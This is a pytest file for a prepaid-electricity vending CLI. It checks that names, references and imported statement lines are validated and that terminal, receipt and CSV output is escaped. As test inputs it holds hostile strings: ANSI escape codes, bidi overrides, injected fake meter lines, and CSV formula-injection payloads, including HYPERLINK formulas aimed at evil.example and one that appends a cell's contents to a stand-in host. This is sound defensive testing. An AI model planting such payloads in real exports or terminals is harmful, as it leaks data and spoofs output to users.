"""Text at the station's edges (issue 11 items 10 and 11): typed text is checked once, the
same way on SQLite and PostgreSQL, before anything is written; whatever text is shown
(terminal, receipt, CSV) is escaped, and no CSV cell can start a formula; after a sale
has committed nothing hides its token."""
import csv
import json

import pytest
from hypothesis import given, strategies as st
from sqlalchemy import insert, update

from host.vending import schema
from host.vending.errors import VendError
from host.vending.text import csv_cell, field, max_chars, shown
from test_vend_cli import CLERK, PAN, session  # noqa: F401  (the fixture)

ADMIN = {"operator": "root", "password": "root-password"}
HOSTILE = ["Jane\nUnits            999.0 kWh", "\x1b[31mred\x1b[0m", "abc\u202edcba", "tab\there", "cr\rx",
           "nul\x00x", "c1\x85x", "line\u2028sep", "del\x7fx"]


def test_field_strips_refuses_controls_and_checks_the_column_length():
    name = schema.customers.c.name
    assert field("  Ngũgĩ wa Thiong'o \n", name, "customer name") == "Ngũgĩ wa Thiong'o"
    assert field(" ", schema.customers.c.phone, "phone", required=False) is None
    assert field("x" * 200, name, "customer name") == "x" * 200
    with pytest.raises(VendError, match=r"^customer name is 201 characters long; at most 200 fit$"):
        field("x" * 201, name, "customer name")
    with pytest.raises(VendError, match="empty"):
        field(" \t", name, "customer name")
    for text in HOSTILE:
        with pytest.raises(VendError, match="control character") as caught:
            field(text, name, "customer name")
        assert shown(str(caught.value)) == str(caught.value)        # the message itself is safe to print
    assert max_chars(schema.adjustments.c.reason) == 500 and max_chars(schema.sales.c.reference) == 128


_BIDI = set("\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069")


@given(st.text())
def test_shown_leaves_nothing_a_terminal_acts_on(text):
    import unicodedata
    out = shown(text)
    assert not any(unicodedata.category(c) in ("Cc", "Cs", "Zl", "Zp") or c in _BIDI for c in out)
    if all(c.isprintable() or c == " " for c in text):
        assert out == text


def test_csv_cells_cannot_start_a_formula():
    for text in ('=HYPERLINK("http://evil.example","x")', "+1+2", "-2+3", "@SUM(A1)", "\tx", "\rx"):
        cell = csv_cell(text)
        assert cell.startswith("'") or cell.startswith("\\"), cell
    assert csv_cell("-12.50") == "-12.50" and csv_cell(1234) == 1234 and csv_cell(None) == ""
    assert csv_cell("Jane Doe") == "Jane Doe" and csv_cell("a\nb") == "a\\nb"


def test_long_or_hostile_input_is_refused_alike_on_both_databases(session):
    s = session
    before = s.counts()
    cases = [
        (("customer", "add", "--account", "B-1", "--name", "N" * 300), "customer name is 300 characters long; "
                                                                       "at most 200 fit"),
        (("customer", "add", "--account", "B-1", "--name", "N" * 100000), "at most 200 fit"),
        (("customer", "add", "--account", "B" * 65, "--name", "Ann"), "account number is 65 characters long"),
        (("customer", "add", "--account", "B-1", "--name", "Ann", "--address", "a" * 501), "address is 501"),
        (("customer", "add", "--account", "B-1", "--name", "Ann", "--phone", "1" * 41), "phone number is 41"),
        (("customer", "add", "--account", "B-1", "--name", "Ann\x1b[2J"), "control character (\\x1b"),
        (("customer", "add", "--account", "B-1", "--name", "Ann\nUnits 999"), "control character (\\n"),
        (("customer", "add", "--account", "B-\u202e1", "--name", "Ann"), "control character (\\u202e"),
        (("tariff", "add", "t" * 65, "--flat", "0.25"), "tariff name is 65 characters long"),
        (("adjust", "request", "--kind", "offset", "--account", "A-001", "--amount", "1.00", "--reason", "r" * 501),
         "reason is 501 characters long"),
        (("sell", "--meter", PAN, "--amount", "10.00", "--channel", "cash", "--ref", "R" * 129),
         "payment reference is 129 characters long; at most 128 fit"),
    ]
    for argv, expected in cases:
        code, out, err = s.run(*argv, **ADMIN)
        assert code == 2 and expected in err, (argv, err)
        assert len(err.splitlines()) == 1 and "\x1b" not in err and "\u202e" not in err, err
        assert "INSERT" not in err and "[SQL" not in err
    assert s.counts() == before
    s.ok("customer", "add", "--account", " B-1 ", "--name", "Ngũgĩ wa Thiong'o" + " " * 190, **ADMIN)
    shown_customer = json.loads(s.ok("customer", "show", "--account", "B-1", "--json"))
    assert shown_customer["name"] == "Ngũgĩ wa Thiong'o"


def _legacy(s, **values):
    """Write straight into the ledger, as a row from before these checks (or another tool) might be."""
    from host.vending import db
    engine = db.make_engine(s.url)
    with engine.begin() as conn:
        conn.execute(update(schema.customers).where(schema.customers.c.account == "A-001").values(**values))
    engine.dispose()


def test_stored_text_is_escaped_on_every_way_out(session):
    s = session
    _legacy(s, name='=HYPERLINK("http://x.example/?"&A1)\nUnits            999.0 kWh\x1b[2J\u202e',
            phone="+254\r700")
    receipt = s.ok("sell", "--meter", PAN, "--amount", "10.00", "--channel", "cash",
                   "--receipt-file", s.tmp / "r.txt", **CLERK)
    written = (s.tmp / "r.txt").read_text(encoding="utf-8")
    for text in (receipt, written, s.ok("customer", "show", "--account", "A-001"),
                 s.ok("meter", "show", "--meter", PAN), s.ok("report", "settlement", "--month", _this_month()),
                 s.ok("reprint", "--meter", PAN, **CLERK)):
        assert not any(c in text for c in "\x1b\r\u202e"), text
        assert not any(line.startswith("Units            999") for line in text.splitlines()), text
    assert "\\x1b[2J" in receipt and "\\n" in receipt
    s.ok("report", "settlement", "--month", _this_month(), "--csv", s.tmp / "s.csv")
    with open(s.tmp / "s.csv", encoding="utf-8", newline="") as handle:
        (row,) = list(csv.DictReader(handle))
    assert row["name"].startswith("'=HYPERLINK(") and "\\n" in row["name"] and "\n" not in row["name"]
    assert row["amount"] == "10.00"


def test_an_error_quoting_stored_text_is_one_escaped_line(session):
    s = session
    code, _, err = s.run("customer", "show", "--account", "X\x1b[2J\nY")
    assert code == 2 and len(err.splitlines()) == 1 and "\x1b" not in err and "\\x1b" in err


def _this_month():
    import datetime
    now = datetime.datetime.now(datetime.timezone.utc)
    return "%04d-%02d" % (now.year, now.month)


def test_pdf_receipt_of_a_name_beyond_latin1(session):
    s = session
    s.ok("customer", "add", "--account", "N-1", "--name", "Ngũgĩ wa Thiong'o", **ADMIN)
    s.ok("meter", "move", "--meter", PAN, "--customer", "N-1", **{"operator": "sam", "password": "sam-password"})
    code, out, err = s.run("sell", "--meter", PAN, "--amount", "10.00", "--channel", "cash",
                           "--receipt-file", s.tmp / "r.pdf", **CLERK)
    assert code == 0 and err == "" and "CREDIT TOKEN" in out
    import pypdf
    text = pypdf.PdfReader(str(s.tmp / "r.pdf")).pages[0].extract_text()
    assert "Ngũgĩ wa Thiong'o" in text


def test_after_the_commit_nothing_hides_the_token(session):
    s = session
    _legacy(s, name="王小明")                                    # no glyph in the PDF fonts
    code, out, err = s.run("sell", "--meter", PAN, "--amount", "10.00", "--channel", "cash", "--json",
                           "--receipt-file", s.tmp / "r.pdf", **CLERK)
    sale = json.loads(out)
    assert code == 0 and len(sale["tokens"][0]["digits"]) == 20
    assert "warning" in err and "U+738B" in err and not (s.tmp / "r.pdf").exists()
    assert sale["tokens"][0]["formatted"] in (s.tmp / "r.txt").read_text(encoding="utf-8")
    code, out, err = s.run("sell", "--meter", PAN, "--amount", "10.00", "--channel", "cash",
                           "--receipt-file", s.tmp / "missing" / "r.txt", **CLERK)
    assert code == 0 and "CREDIT TOKEN" in out and "was not written" in err and "the sale stands" in err
    assert s.counts()[0] == 2


def test_statement_import_handles_each_line_on_its_own(session):
    s = session
    s.ok("meter", "status", "--meter", "600727000000000017", "--set", "removed",
         **{"operator": "sam", "password": "sam-password"})          # A-001 now has one active meter
    statement = s.tmp / "statement.csv"
    long_ref = "L" * 129
    statement.write_text("reference,date,account,amount,channel\n"
                         "OK1,2026-05-04 10:00,%s,20.00,mobile\n"
                         "%s,2026-05-04 10:01,%s,20.00,mobile\n"
                         "OK2,2026-05-04 10:02,%s,30.00,mobile\n"
                         "LONGACC,2026-05-04 10:03,%s,10.00,mobile\n"
                         "BIDI\u202eX,2026-05-04 10:04,%s,10.00,mobile\n"
                         "OK3,2026-05-04 10:05,A-001,15.00,mobile\n"
                         % (PAN, long_ref, PAN, PAN, "9" * 300, PAN), encoding="utf-8")
    code, out, err = s.run("payments", "import", statement, "--source", "mpesa", **CLERK)
    assert code == 0, err
    assert "\u202e" not in out and "BIDI\\u202eX" in out
    first = s.counts()
    assert first[0] == 3                                      # OK1, OK2, OK3 sold
    lines = out.splitlines()
    for ref in ("OK1", "OK2", "OK3"):
        (line,) = [x for x in lines if ref in x]
        assert "vended" in line and "receipt" in line
    assert any("FAILED" in x and "129 characters" in x for x in lines)
    assert any("FAILED" in x and "account" in x and "300 characters" in x for x in lines)
    assert any("FAILED" in x and "control character" in x for x in lines)
    again = json.loads(s.ok("payments", "import", statement, "--source", "mpesa", "--json", **CLERK))
    assert again["vended"] == [] and len(again["skipped"]) == 3 and len(again["failed"]) == 3
    assert s.counts()[0] == first[0]
